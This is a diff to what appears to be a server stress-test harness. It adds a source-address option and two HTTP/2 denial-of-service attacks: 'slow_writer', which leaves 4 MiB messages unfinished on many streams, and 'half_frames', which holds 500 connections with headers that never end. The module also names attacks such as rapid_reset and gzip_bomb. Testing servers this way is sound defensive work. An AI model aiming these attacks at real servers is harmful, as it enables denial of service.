@@ -1,7 +1,8 @@
-"""The attacks themselves, one process each: `python -m bench.attacks.attacker NAME PORT SECONDS`.
+"""The attacks themselves, one process each.
 
-Owns sockets and what is sent through them; must not judge the server. Each attack does its worst
-for so many seconds, connects again when it is thrown out, and prints what it saw as one JSON line.
+`python -m bench.attacks.attacker NAME PORT SECONDS SOURCE`. Owns sockets and what is sent through
+them; must not judge the server. Each attack does its worst for so many seconds, connects again when
+it is thrown out, and prints what it saw as one JSON line.
 """
 
 from __future__ import annotations
@@ -10,6 +11,7 @@ import contextlib
 import gzip
 import json
 import socket
+import struct
 import sys
 import time
 from collections import Counter
@@ -36,10 +38,12 @@ class Attacker:
     Args:
         port: The server's, on loopback.
         seconds: How long to go on.
+        source: The address of loopback that it comes from.
     """
 
-    def __init__(self, port: int, seconds: float) -> None:
+    def __init__(self, port: int, seconds: float, source: str = "127.0.0.1") -> None:
         self._port = port
+        self._source = source
         self._end = time.monotonic() + seconds
         self.seen: Counter[str] = Counter()
         self.open: list[socket.socket] = []
@@ -52,7 +56,9 @@ class Attacker:
     def connect(self, greeting: bytes = frames.PREFACE + frames.settings()) -> socket.socket | None:
         """Opens a connection and says hello; None if it was refused."""
         try:
-            opened = socket.create_connection(("127.0.0.1", self._port), timeout=2)
+            opened = socket.create_connection(
+                ("127.0.0.1", self._port), timeout=2, source_address=(self._source, 0)
+            )
             opened.sendall(greeting)
         except OSError:
             self.seen["refused_connections"] += 1
@@ -251,6 +257,49 @@ def slow_reader(attacker: Attacker) -> None:
             attacker.open.pop(0).close()
 
 
+def slow_writer(attacker: Attacker) -> None:
+    """Begins messages of 4 MiB on many calls, sends most of each and never the end."""
+    head = struct.pack(">BL", 0, 4 << 20)
+    chunk = bytes(16_384)
+    block = frames.call_headers(RESERVE)
+
+    def work(opened: socket.socket) -> None:
+        # The wider windows of the server hold once they are acknowledged.
+        with contextlib.suppress(OSError):
+            opened.recv(1 << 16)
+            opened.sendall(frames.frame(frames.SETTINGS, frames.ACK, 0))
+        for stream in range(1, 2 * 64, 2):
+            parts = [frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)]
+            parts.append(frames.frame(frames.DATA, 0, stream, head))
+            # As much as a window of 1 MiB takes at once; what is read opens it again.
+            parts += [frames.frame(frames.DATA, 0, stream, chunk)] * 63
+            if attacker.is_over or not attacker.send(opened, b"".join(parts), 1):
+                return
+
+    while not attacker.is_over:
+        opened = attacker.connect()
+        if opened is None:
+            continue
+        attacker.open.append(opened)
+        work(opened)
+        if len(attacker.open) > 32:  # noqa: PLR2004 - connections that stay open
+            attacker.open.pop(0).close()
+
+
+def half_frames(attacker: Attacker) -> None:
+    """Keeps 500 connections open, each with headers that never end."""
+    block = frames.call_headers(RESERVE)
+    greeting = frames.PREFACE + frames.settings() + frames.frame(frames.HEADERS, 0, 1, block)
+    while not attacker.is_over:
+        while len(attacker.open) < 500 and not attacker.is_over:  # noqa: PLR2004 - see above
+            opened = attacker.connect(greeting)
+            if opened is None:
+                break
+            attacker.open.append(opened)
+        attacker.open = [each for each in attacker.open if attacker.send(each, b"", 0)]
+        time.sleep(PATIENCE_SECONDS / 2)
+
+
 ATTACKS: Final[dict[str, Callable[[Attacker], None]]] = {
     "rapid_reset": rapid_reset,
     "half_open": half_open,
@@ -261,13 +310,15 @@ ATTACKS: Final[dict[str, Callable[[Attacker], None]]] = {
     "gzip_bomb": gzip_bomb,
     "many_connections": many_connections,
     "slow_reader": slow_reader,
+    "slow_writer": slow_writer,
+    "half_frames": half_frames,
 }
 
 
 def main() -> None:
     """Runs one attack and prints what it saw."""
-    name, port, seconds = sys.argv[1:]
-    attacker = Attacker(int(port), float(seconds))
+    name, port, seconds, source = sys.argv[1:]
+    attacker = Attacker(int(port), float(seconds), source)
     ATTACKS[name](attacker)
     sys.stdout.write(json.dumps(dict(attacker.seen)) + "\n")
 
